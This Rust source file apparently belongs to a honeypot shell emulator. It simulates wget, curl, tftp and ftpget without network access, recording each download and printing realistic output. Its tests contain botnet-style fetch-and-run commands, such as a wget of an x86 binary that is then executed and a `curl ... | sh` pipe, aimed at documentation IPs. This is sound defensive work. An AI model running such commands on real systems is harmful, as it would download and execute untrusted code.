//! Downloaders: `wget`, `curl`, `tftp`, `ftpget`. Nothing connects out: each records the URL as
//! an [`Effect::Download`], prints what the real tool prints for a successful small transfer,
//! and leaves a stand-in file (size only, no content kept) in the virtual filesystem.

use super::{bin, getopt, Ctx, Spec};
use crate::clock::format_date;
use crate::vfs::{base_name, Kind, Node};
use crate::Effect;

pub(crate) static SPECS: &[Spec] = &[bin("wget", wget), bin("curl", curl), bin("tftp", tftp), bin("ftpget", ftpget)];

pub(crate) struct Url {
    pub scheme: String,
    pub host: String,
    pub port: u16,
    pub path: String,
}

pub(crate) fn parse_url(raw: &str, default_scheme: &str) -> Option<Url> {
    let (scheme, rest) = match raw.split_once("://") {
        Some((s, r)) => (s.to_ascii_lowercase(), r),
        None => (default_scheme.to_owned(), raw),
    };
    let (hostport, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    let hostport = hostport.rsplit('@').next().unwrap_or(hostport);
    let (host, port) = match hostport.rsplit_once(':') {
        Some((h, p)) if !h.is_empty() && p.chars().all(|c| c.is_ascii_digit()) && !p.is_empty() => (h.to_owned(), p.parse().ok()?),
        _ => (
            hostport.to_owned(),
            match scheme.as_str() {
                "https" => 443,
                "ftp" => 21,
                "tftp" => 69,
                _ => 80,
            },
        ),
    };
    if host.is_empty() || host.contains(char::is_whitespace) {
        return None;
    }
    Some(Url { scheme, host, port, path: path.to_owned() })
}

fn hash(s: &str) -> u64 {
    s.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3))
}

/// The address a name "resolves" to: stable per name, in public-looking space.
pub(crate) fn fake_ip(host: &str) -> String {
    if host.parse::<std::net::IpAddr>().is_ok() {
        return host.to_owned();
    }
    if host == "localhost" || host.ends_with(".localhost") {
        return "127.0.0.1".to_owned();
    }
    let h = hash(host);
    format!("{}.{}.{}.{}", [104u64, 172, 185, 45, 193, 151][(h % 6) as usize], (h >> 8) % 254 + 1, (h >> 16) % 254 + 1, (h >> 24) % 253 + 2)
}

fn is_script(name: &str) -> bool {
    name.ends_with(".sh") || name.ends_with(".py") || name.ends_with(".pl") || name.ends_with(".txt") || name == "index.html" || name.ends_with(".bash")
}

/// A plausible size for what the URL names: scripts are small, binaries are larger.
fn fake_size(url: &str, script: bool) -> u64 {
    let h = hash(url);
    if script { 300 + h % 2700 } else { 40_000 + h % 1_200_000 }
}

fn remote_name(url: &Url) -> String {
    let path = url.path.split(['?', '#']).next().unwrap_or("");
    let name = base_name(path);
    if name.is_empty() || name == "/" { "index.html".to_owned() } else { name.to_owned() }
}

fn public_ip(ctx: &Ctx<'_>) -> String {
    let s = ctx.st.sys.persona.seed;
    format!("{}.{}.{}.{}", [5u64, 45, 91, 139, 159, 185, 195][(s % 7) as usize], (s >> 8) % 250 + 3, (s >> 16) % 250 + 1, (s >> 24) % 250 + 2)
}

/// What an IP-echo service answers; `None` for ordinary URLs.
fn echo_service(ctx: &Ctx<'_>, url: &Url) -> Option<String> {
    let ip = public_ip(ctx);
    match url.host.as_str() {
        "ifconfig.me" | "icanhazip.com" | "api.ipify.org" | "ipecho.net" | "ident.me" | "checkip.amazonaws.com" | "ifconfig.co" | "myip.dnsomatic.com" => Some(format!("{ip}\n")),
        "ipinfo.io" if url.path.starts_with("/ip") => Some(format!("{ip}\n")),
        "ipinfo.io" => Some(format!("{{\n  \"ip\": \"{ip}\",\n  \"city\": \"Frankfurt am Main\",\n  \"region\": \"Hesse\",\n  \"country\": \"DE\",\n  \"loc\": \"50.1155,8.6842\",\n  \"org\": \"AS24940 Hetzner Online GmbH\",\n  \"postal\": \"60306\",\n  \"timezone\": \"Europe/Berlin\",\n  \"readme\": \"https://ipinfo.io/missingauth\"\n}}")),
        _ => None,
    }
}

/// Leaves the stand-in file; returns the path saved (as given) or an error message.
fn save(ctx: &mut Ctx<'_>, path: &str, size: u64, script: bool) -> Result<(), String> {
    let abs = ctx.abs(path);
    let node = Node { kind: Kind::Fetched { size, script }, mode: 0o644, uid: ctx.st.uid, gid: ctx.st.gid, mtime: ctx.now(), attrs: 0 };
    let parent_ok = ctx.st.vfs.is_dir(crate::vfs::parent_of(&abs));
    if !parent_ok {
        return Err("No such file or directory".into());
    }
    let uid = ctx.uid();
    ctx.st.vfs.replace(&abs, node, uid).map_err(|e| e.message().to_owned())
}

fn unique_name(ctx: &Ctx<'_>, name: &str) -> String {
    let mut candidate = name.to_owned();
    let mut n = 1;
    while ctx.st.vfs.lstat(&ctx.abs(&candidate)).is_ok() && n < 100 {
        candidate = format!("{name}.{n}");
        n += 1;
    }
    candidate
}

/// wget's own human-readable size: `1.21K`, `12.3K`, `123K`.
fn wget_human(n: u64) -> String {
    if n < 1024 {
        return n.to_string();
    }
    let units = ["K", "M", "G", "T"];
    let mut v = n as f64 / 1024.0;
    let mut u = 0;
    while v >= 1024.0 && u < units.len() - 1 {
        v /= 1024.0;
        u += 1;
    }
    if v < 10.0 {
        format!("{v:.2}{}", units[u])
    } else if v < 100.0 {
        format!("{v:.1}{}", units[u])
    } else {
        format!("{v:.0}{}", units[u])
    }
}

fn length_human(n: u64) -> String {
    let mut v = n as f64 / 1024.0;
    let units = ["K", "M", "G"];
    let mut u = 0;
    while v >= 1024.0 && u < 2 {
        v /= 1024.0;
        u += 1;
    }
    if v < 10.0 { format!("{v:.1}{}", units[u]) } else { format!("{v:.0}{}", units[u]) }
}

fn content_type(name: &str) -> &'static str {
    if name.ends_with(".sh") {
        "text/x-sh"
    } else if name.ends_with(".html") {
        "text/html"
    } else if name.ends_with(".py") {
        "text/x-python"
    } else if name.ends_with(".txt") {
        "text/plain"
    } else if name.ends_with(".tar.gz") || name.ends_with(".tgz") {
        "application/gzip"
    } else {
        "application/octet-stream"
    }
}

fn wget(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    if ctx.persona_is_busybox() {
        return busybox_wget(ctx, args);
    }
    let o = match getopt(args, "qvcNbrkSnd46hV", "OPtTUeoa", &["quiet", "no-check-certificate", "output-document=", "directory-prefix=", "user-agent=", "tries=", "timeout=", "continue", "help", "version", "header=", "post-data=", "no-verbose", "background", "recursive", "limit-rate=", "read-timeout=", "spider", "no-cache", "http-user=", "http-password=", "user=", "password="]) {
        Ok(o) => o,
        Err(e) => {
            ctx.err(format!("wget: {}\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", e.message()));
            return 2;
        }
    };
    if o.has('V') || o.long("version") {
        ctx.out("GNU Wget 1.21.3 built on linux-gnu.\n\n-cares +digest -gpgme +https +ipv6 +iri +large-file -metalink +nls \n+ntlm +opie +psl +ssl/gnutls \n");
        return 0;
    }
    if o.args.is_empty() {
        ctx.err("wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n");
        return 1;
    }
    let quiet = o.has('q') || o.long("quiet");
    let terse = o.has('n') || o.long("no-verbose");
    let out_doc = o.value('O').or(o.long_value("output-document")).map(str::to_owned);
    let prefix = o.value('P').or(o.long_value("directory-prefix")).map(str::to_owned);
    if o.has('b') || o.long("background") {
        ctx.st.next_pid += 7;
        let pid = ctx.st.next_pid;
        ctx.out(format!("Continuing in background, pid {pid}.\nOutput will be written to \u{2018}wget-log\u{2019}.\n"));
    }
    let mut status = 0;
    let tty = ctx.st.tty_out;
    let mut doc_written = false;
    for raw in &o.args {
        let Some(url) = parse_url(raw, "http") else {
            ctx.err(format!("{raw}: Invalid host name.\n"));
            status = 1;
            continue;
        };
        let now = ctx.now();
        let stamp = format_date(now, "%Y-%m-%d %H:%M:%S");
        let full = if raw.contains("://") { raw.clone() } else { format!("http://{raw}") };
        let name = remote_name(&url);
        let script = is_script(&name);
        let size = fake_size(&full, script);
        let to_stdout = out_doc.as_deref() == Some("-");
        let target = match (&out_doc, &prefix) {
            (Some(d), _) if d != "-" => d.clone(),
            (Some(_), _) => "-".to_owned(),
            (None, Some(p)) => format!("{}/{}", p.trim_end_matches('/'), name),
            (None, None) => unique_name(ctx, &name),
        };
        let mut log = String::new();
        log.push_str(&format!("--{stamp}--  {full}\n"));
        let ip = fake_ip(&url.host);
        if url.host.parse::<std::net::IpAddr>().is_ok() {
            log.push_str(&format!("Connecting to {}:{}... connected.\n", url.host, url.port));
        } else {
            log.push_str(&format!("Resolving {h} ({h})... {ip}\nConnecting to {h} ({h})|{ip}|:{}... connected.\n", url.port, h = url.host));
        }
        let echo = echo_service(ctx, &url);
        let size = echo.as_ref().map(|e| e.len() as u64).unwrap_or(size);
        let ctype = if echo.is_some() { "text/plain" } else { content_type(&name) };
        log.push_str("HTTP request sent, awaiting response... 200 OK\n");
        if size < 1024 {
            log.push_str(&format!("Length: {size} [{ctype}]\n"));
        } else {
            log.push_str(&format!("Length: {size} ({}) [{ctype}]\n", length_human(size)));
        }
        let shown = if to_stdout { "STDOUT".to_owned() } else { target.clone() };
        log.push_str(&format!("Saving to: \u{2018}{shown}\u{2019}\n\n"));
        let speed_mb = 2.0 + (hash(&full) % 400) as f64 / 10.0;
        if tty {
            let label: String = base_name(&shown).chars().take(18).collect();
            let secs = size as f64 / (speed_mb * 1_048_576.0);
            let tail = if size < 100_000 { "--.-KB/s    in 0s      ".to_owned() } else { format!("{speed_mb:>5.1}MB/s    in {secs:.1}s    ") };
            log.push_str(&format!("\r{label:<20}  0%[                    ]       0  --.-KB/s               \r{label:<20}100%[===================>] {:>7}  {tail}\n\n", wget_human(size)));
        } else {
            let dots = ((size / 1024) as usize).clamp(1, 50);
            // wget shows three significant digits, right-aligned in five columns.
            let speed = if speed_mb >= 100.0 { format!("{speed_mb:.0}M") } else if speed_mb >= 10.0 { format!("{speed_mb:.1}M") } else { format!("{speed_mb:.2}M") };
            log.push_str(&format!("     0K {:<52} 100% {speed:>5}=0s\n\n", ".".repeat(dots)));
        }
        log.push_str(&format!("{stamp} ({speed_mb:.1} MB/s) - \u{2018}{shown}\u{2019} saved [{size}/{size}]\n\n"));
        let saved = if to_stdout {
            None
        } else {
            let append = out_doc.is_some() && doc_written;
            let r = if append { Ok(()) } else { save(ctx, &target, size, script) };
            if let Err(e) = r {
                ctx.err(format!("{target}: {e}\n"));
                ctx.effect(Effect::Download { url: full.clone(), tool: "wget".into(), saved_path: None, size });
                status = 1;
                continue;
            }
            doc_written = true;
            Some(ctx.abs(&target))
        };
        ctx.effect(Effect::Download { url: full.clone(), tool: "wget".into(), saved_path: saved, size });
        if terse && !quiet {
            ctx.err(format!("{stamp} URL:{full} [{size}/{size}] -> \"{shown}\" [1]\n"));
        } else if !quiet {
            ctx.err(log);
        }
        if to_stdout {
            let body = echo.unwrap_or_else(|| if script { "#!/bin/sh\n".to_owned() } else { String::new() });
            ctx.out(body);
        }
    }
    status
}

fn busybox_wget(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    let o = match getopt(args, "cqsS", "OPUYTt", &["no-check-certificate", "header=", "post-data=", "spider"]) {
        Ok(o) => o,
        Err(e) => {
            ctx.err(format!("wget: {}\nBusyBox v1.36.1 (2024-06-10 07:11:47 UTC) multi-call binary.\n\nUsage: wget [-cqS] [--spider] [-O FILE] [-o LOGFILE] [--header STR]\n\t[--post-data STR | --post-file FILE] [-Y on/off]\n\t[--no-check-certificate] [-P DIR] [-U AGENT] [-T SEC] URL...\n", e.message()));
            return 1;
        }
    };
    if o.args.is_empty() {
        ctx.err("BusyBox v1.36.1 (2024-06-10 07:11:47 UTC) multi-call binary.\n\nUsage: wget [-cqS] [--spider] [-O FILE] [-o LOGFILE] [--header STR]\n\t[--post-data STR | --post-file FILE] [-Y on/off]\n\t[--no-check-certificate] [-P DIR] [-U AGENT] [-T SEC] URL...\n");
        return 1;
    }
    bb_fetch(ctx, &o.args, o.value('O').map(str::to_owned), o.has('q'), "wget")
}

/// BusyBox wget's transcript, shared with `busybox wget` on GNU personas.
pub(crate) fn bb_fetch(ctx: &mut Ctx<'_>, urls: &[String], out_doc: Option<String>, quiet: bool, tool: &str) -> i32 {
    let mut status = 0;
    for raw in urls {
        let Some(url) = parse_url(raw, "http") else {
            ctx.err(format!("wget: bad address '{raw}'\n"));
            status = 1;
            continue;
        };
        let full = if raw.contains("://") { raw.clone() } else { format!("http://{raw}") };
        let name = remote_name(&url);
        let script = is_script(&name);
        let size = fake_size(&full, script);
        let target = out_doc.clone().unwrap_or_else(|| name.clone());
        let ip = fake_ip(&url.host);
        // BusyBox names the host as the URL gave it (with the port only if the URL had one).
        let explicit_port = raw.split("://").nth(1).unwrap_or(raw).split('/').next().unwrap_or("").contains(':');
        let shown_host = if explicit_port { format!("{}:{}", url.host, url.port) } else { url.host.clone() };
        let mut log = format!("Connecting to {shown_host} ({ip}:{})\n", url.port);
        let saved = if target == "-" {
            None
        } else {
            if let Err(e) = save(ctx, &target, size, script) {
                ctx.err(format!("wget: can't open '{target}': {e}\n"));
                status = 1;
                continue;
            }
            Some(ctx.abs(&target))
        };
        ctx.effect(Effect::Download { url: full, tool: tool.into(), saved_path: saved, size });
        if target == "-" {
            log.push_str("writing to stdout\n");
        } else {
            log.push_str(&format!("saving to '{target}'\n"));
        }
        let label: String = base_name(&target).chars().take(20).collect();
        let (n, unit) = if size < 100_000 { (size, ' ') } else { (size / 1024, 'k') };
        log.push_str(&format!("{label:<20} 100% |********************************| {n:>5}{unit} 0:00:00 ETA\n"));
        if target == "-" {
            log.push_str("written to stdout\n");
        } else {
            log.push_str(&format!("'{target}' saved\n"));
        }
        if !quiet {
            ctx.err(log);
        }
        if target == "-" && script {
            ctx.out("#!/bin/sh\n");
        }
    }
    status
}

fn curl_size(n: u64) -> String {
    if n < 100_000 {
        n.to_string()
    } else if n < 10_240_000 {
        format!("{}k", n / 1024)
    } else {
        format!("{}M", n / 1_048_576)
    }
}

fn curl(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    let o = match getopt(args, "sSfLOkvIiJ#gGnq4V", "oXdHAuemrTwxbc", &["silent", "show-error", "fail", "location", "insecure", "remote-name", "output=", "request=", "data=", "header=", "user-agent=", "user=", "verbose", "head", "include", "help", "version", "max-time=", "connect-timeout=", "retry=", "compressed", "data-binary=", "proxy=", "progress-bar", "url=", "upload-file=", "create-dirs", "remote-header-name", "ipv4", "http1.1", "tlsv1.2", "write-out=", "cookie=", "referer="]) {
        Ok(o) => o,
        Err(e) => {
            let msg = match e {
                super::OptError::Unrecognized(s) => format!("curl: option {s}: is unknown\ncurl: try 'curl --help' or 'curl --manual' for more information\n"),
                super::OptError::Missing(c) => format!("curl: option -{c}: requires parameter\ncurl: try 'curl --help' or 'curl --manual' for more information\n"),
                super::OptError::Invalid(c) => format!("curl: option -{c}: is unknown\ncurl: try 'curl --help' or 'curl --manual' for more information\n"),
            };
            ctx.err(msg);
            return 2;
        }
    };
    if o.has('V') || o.long("version") {
        ctx.out("curl 7.88.1 (x86_64-pc-linux-gnu) libcurl/7.88.1 OpenSSL/3.0.15 zlib/1.2.13 brotli/1.0.9 zstd/1.5.4 libidn2/2.3.3 libpsl/0.21.2 (+libidn2/2.3.3) libssh2/1.10.0 nghttp2/1.52.0 librtmp/2.3 OpenLDAP/2.5.13\nRelease-Date: 2023-02-20, security patched: 7.88.1-10+deb12u8\nProtocols: dict file ftp ftps gopher gophers http https imap imaps ldap ldaps mqtt pop3 pop3s rtmp rtsp scp sftp smb smbs smtp smtps telnet tftp\nFeatures: alt-svc AsynchDNS brotli GSS-API HSTS HTTP2 HTTPS-proxy IDN IPv6 Kerberos Largefile libz NTLM NTLM_WB PSL SPNEGO SSL threadsafe TLS-SRP UnixSockets zstd\n");
        return 0;
    }
    let mut urls = o.args.clone();
    if let Some(u) = o.long_value("url") {
        urls.push(u.to_owned());
    }
    if urls.is_empty() {
        ctx.err("curl: try 'curl --help' or 'curl --manual' for more information\n");
        return 2;
    }
    let silent = o.has('s') || o.long("silent");
    let show_error = o.has('S') || o.long("show-error");
    let verbose = o.has('v') || o.long("verbose");
    let head = o.has('I') || o.long("head");
    let output = o.value('o').or(o.long_value("output")).map(str::to_owned);
    let remote = o.has('O') || o.long("remote-name");
    let tty = ctx.st.tty_out;
    let mut status = 0;
    for raw in &urls {
        let Some(url) = parse_url(raw, "http") else {
            if !silent || show_error {
                ctx.err("curl: (3) URL using bad/illegal format or missing URL\n");
            }
            status = 3;
            continue;
        };
        let full = if raw.contains("://") { raw.clone() } else { format!("http://{raw}") };
        let name = remote_name(&url);
        let script = is_script(&name);
        let echo = echo_service(ctx, &url);
        let size = echo.as_ref().map(|e| e.len() as u64).unwrap_or_else(|| fake_size(&full, script));
        let ip = fake_ip(&url.host);
        let now = ctx.now();
        if verbose {
            let host_hdr = if (url.scheme == "http" && url.port == 80) || (url.scheme == "https" && url.port == 443) { url.host.clone() } else { format!("{}:{}", url.host, url.port) };
            let mut v = format!("*   Trying {ip}:{}...\n* Connected to {} ({ip}) port {} (#0)\n", url.port, url.host, url.port);
            if url.scheme == "https" {
                v.push_str("* ALPN: offers h2,http/1.1\n* TLSv1.3 (OUT), TLS handshake, Client hello (1):\n* TLSv1.3 (IN), TLS handshake, Server hello (2):\n* SSL connection using TLSv1.3 / TLS_AES_256_GCM_SHA384\n* ALPN: server accepted http/1.1\n");
            }
            let method = if head { "HEAD" } else { o.value('X').unwrap_or("GET") };
            v.push_str(&format!("> {method} {} HTTP/1.1\n> Host: {host_hdr}\n> User-Agent: {}\n> Accept: */*\n> \n", url.path, o.value('A').unwrap_or("curl/7.88.1")));
            v.push_str(&format!("< HTTP/1.1 200 OK\n< Server: nginx\n< Date: {}\n< Content-Type: {}\n< Content-Length: {size}\n< Connection: keep-alive\n< \n", format_date(now, "%a, %d %b %Y %H:%M:%S GMT"), content_type(&name)));
            ctx.err(v);
        }
        let save_to = if remote { Some(name.clone()) } else { output.clone() };
        let saved = match &save_to {
            Some(p) if p != "-" && !head => {
                if let Err(e) = save(ctx, p, size, script) {
                    if !silent || show_error {
                        ctx.err(format!("Warning: Failed to open the file {p}: {e}\ncurl: (23) Failure writing output to destination\n"));
                    }
                    ctx.effect(Effect::Download { url: full.clone(), tool: "curl".into(), saved_path: None, size });
                    status = 23;
                    continue;
                }
                Some(ctx.abs(p))
            }
            _ => None,
        };
        ctx.effect(Effect::Download { url: full.clone(), tool: "curl".into(), saved_path: saved.clone(), size });
        // The progress meter shows when the body does not go to the terminal.
        let body_to_terminal = saved.is_none() && tty && !head;
        if !silent && !body_to_terminal && !verbose {
            let sp = curl_size(size * 7 + 12_345);
            ctx.err(format!("  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n                                 Dload  Upload   Total   Spent    Left  Speed\n\r  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\r100 {:>5}  100 {:>5}    0     0 {:>5}      0 --:--:-- --:--:-- --:--:-- {:>5}\n", curl_size(size), curl_size(size), sp, sp));
        }
        if head {
            ctx.out(format!("HTTP/1.1 200 OK\nServer: nginx\nDate: {}\nContent-Type: {}\nContent-Length: {size}\nConnection: keep-alive\n\n", format_date(now, "%a, %d %b %Y %H:%M:%S GMT"), content_type(&name)));
        } else if saved.is_none() {
            if o.has('i') {
                ctx.out(format!("HTTP/1.1 200 OK\nServer: nginx\nContent-Type: {}\nContent-Length: {size}\n\n", content_type(&name)));
            }
            match &echo {
                Some(e) => ctx.out(e.clone()),
                None if script => ctx.out("#!/bin/sh\n"),
                None => {
                    if tty && !silent {
                        ctx.err("Warning: Binary output can mess up your terminal. Use \"--output -\" to tell \nWarning: curl to output it to your terminal anyway, or consider \"--output \nWarning: <FILE>\" to save to a file.\n");
                        status = 23;
                    }
                }
            }
        }
        if verbose {
            ctx.err(format!("* Connection #0 to host {} left intact\n", url.host));
        }
    }
    status
}

fn tftp(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    // BusyBox: tftp [-g|-p] [-l LOCAL] [-r REMOTE] HOST [PORT]; tftp-hpa: tftp HOST -c get FILE
    let mut get = false;
    let mut local = None;
    let mut remote = None;
    let mut host = None;
    let mut port = "69".to_owned();
    let mut i = 1;
    while i < args.len() {
        match args[i].as_str() {
            "-g" => get = true,
            "-p" => get = false,
            "-gr" | "-rg" => {
                get = true;
                remote = args.get(i + 1).cloned();
                i += 1;
            }
            "-l" => {
                local = args.get(i + 1).cloned();
                i += 1;
            }
            "-r" => {
                remote = args.get(i + 1).cloned();
                i += 1;
            }
            "-c" => {
                if args.get(i + 1).map(String::as_str) == Some("get") {
                    get = true;
                    remote = args.get(i + 2).cloned();
                    local = args.get(i + 3).cloned();
                    i += 2;
                }
                i += 1;
            }
            a if host.is_none() => host = Some(a.to_owned()),
            a => port = a.to_owned(),
        }
        i += 1;
    }
    let (Some(host), Some(remote)) = (host, remote) else {
        let banner = super::busybox::banner(ctx);
        ctx.err(format!("{banner}\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\nTransfer a file from/to tftp server\n\n\t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n\t-g\tGet file\n\t-p\tPut file\n\t-b SIZE\tTransfer blocks in bytes\n"));
        return 1;
    };
    let url = format!("tftp://{host}:{port}/{}", remote.trim_start_matches('/'));
    if !get {
        ctx.effect(Effect::Outbound { tool: "tftp".into(), target: url });
        return 0;
    }
    let target = local.unwrap_or_else(|| base_name(&remote).to_owned());
    let script = is_script(&target);
    let size = fake_size(&url, script);
    let saved = save(ctx, &target, size, script).ok().map(|_| ctx.abs(&target));
    ctx.effect(Effect::Download { url, tool: "tftp".into(), saved_path: saved, size });
    0
}

fn ftpget(ctx: &mut Ctx<'_>, args: &[String]) -> i32 {
    let o = match getopt(args, "vc", "upP", &["verbose", "continue", "username=", "password=", "port="]) {
        Ok(o) => o,
        Err(e) => return ctx.bad_option("ftpget", &e, 1),
    };
    let ops = &o.args;
    if ops.len() < 2 {
        let banner = super::busybox::banner(ctx);
        ctx.err(format!("{banner}\n\nUsage: ftpget [OPTIONS] HOST [LOCAL_FILE] REMOTE_FILE\n\nDownload a file via FTP\n\n\t-c\tContinue previous transfer\n\t-v\tVerbose\n\t-u USER\tUsername\n\t-p PASS\tPassword\n\t-P PORT\n"));
        return 1;
    }
    let host = &ops[0];
    let (local, remote) = if ops.len() >= 3 { (ops[1].clone(), ops[2].clone()) } else { (base_name(&ops[1]).to_owned(), ops[1].clone()) };
    let port = o.value('P').unwrap_or("21");
    let user = o.value('u').unwrap_or("anonymous");
    let url = format!("ftp://{user}@{host}:{port}/{}", remote.trim_start_matches('/'));
    let script = is_script(&local);
    let size = fake_size(&url, script);
    if o.has('v') {
        ctx.err(format!("Connecting to {host} ({}:{port})\nftpget: cmd (null) (null)\nftpget: cmd USER {user}\nftpget: cmd PASS {}\nftpget: cmd TYPE I (null)\nftpget: cmd PASV (null)\nftpget: cmd SIZE {remote}\nftpget: cmd RETR {remote}\nftpget: cmd (null) (null)\nftpget: cmd QUIT (null)\n", fake_ip(host), o.value('p').unwrap_or("busybox@")));
    }
    let saved = save(ctx, &local, size, script).ok().map(|_| ctx.abs(&local));
    ctx.effect(Effect::Download { url, tool: "ftpget".into(), saved_path: saved, size });
    0
}

#[cfg(test)]
mod tests {
    use crate::commands::testing::{run, shell};
    use crate::Effect;

    #[test]
    fn wget_records_and_leaves_a_file() {
        let mut sh = shell("debian12");
        let out = sh.execute("cd /tmp; wget http://198.51.100.7/bins/x86 -O .x; chmod +x .x; ./.x");
        let text = String::from_utf8_lossy(&out.output);
        assert!(text.starts_with("--2024-11-24 07:31:37--  http://198.51.100.7/bins/x86\nConnecting to 198.51.100.7:80... connected.\nHTTP request sent, awaiting response... 200 OK\nLength: "), "{text}");
        assert!(text.contains("Saving to: \u{2018}.x\u{2019}"), "{text}");
        match &out.effects[0] {
            Effect::Download { url, tool, saved_path, size } => {
                assert_eq!((url.as_str(), tool.as_str(), saved_path.as_deref()), ("http://198.51.100.7/bins/x86", "wget", Some("/tmp/.x")));
                assert!(*size > 1000);
            }
            other => panic!("{other:?}"),
        }
        assert!(run(&mut sh, "ls -la /tmp").0.contains(" .x\n"));
    }

    #[test]
    fn curl_forms() {
        let mut sh = shell("debian12");
        let o = sh.execute("curl -s http://203.0.113.9/a.sh | sh");
        assert_eq!(o.exit_code, 0);
        assert!(o.output.is_empty(), "{:?}", String::from_utf8_lossy(&o.output));
        assert_eq!(o.effects.len(), 1);
        let (t, _) = run(&mut sh, "curl -o /tmp/b http://203.0.113.9/b");
        assert!(t.starts_with("  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n"), "{t}");
        let (t, _) = run(&mut sh, "curl ifconfig.me");
        assert!(t.split('.').count() == 4, "{t}");
    }

    #[test]
    fn tftp_and_ftpget() {
        let mut sh = shell("debian12");
        let o = sh.execute("tftp -g -r mips 203.0.113.1; ftpget -v -u a -p b 203.0.113.1 arm7 arm7");
        assert_eq!(o.effects.len(), 2);
    }
}
